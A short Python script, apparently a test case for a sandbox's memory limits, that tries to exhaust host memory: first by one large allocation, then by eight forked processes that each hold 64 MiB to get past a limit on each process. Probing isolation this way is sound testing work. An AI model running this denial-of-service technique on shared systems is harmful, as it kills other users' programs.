"""Takes all memory there is: in one process, then in a family none of which takes much.

Would gain: the host's memory; its OOM killer then ends other people's programs.
"""
import os
import time

from inside import main, say


def family():
    told, tell = os.pipe()
    for _ in range(8):
        if os.fork() == 0:
            held = bytearray(b"x") * (64 << 20)  # one allocation: two would pass a limit of each process
            os.write(tell, b"h")
            time.sleep(20)
            os._exit(len(held) & 1)
    os.close(tell)
    if len(open(told, "rb").read(8)) == 8:  # all is held at once: now it is the limit's turn
        time.sleep(3)
    say(attempt="the same by eight processes", got=True, errno=None)


def attack():
    held = []
    try:
        for _ in range(64):
            held.append(bytearray(b"x" * (8 << 20)))
        say(attempt="half a gigabyte", got=True, errno=None)
    except MemoryError:  # a limit of each process, not of all
        held.clear()
    family()


def host(case):
    yield {"flags": ["--memory", "96MiB"]}


if __name__ == "__main__":
    main(attack)
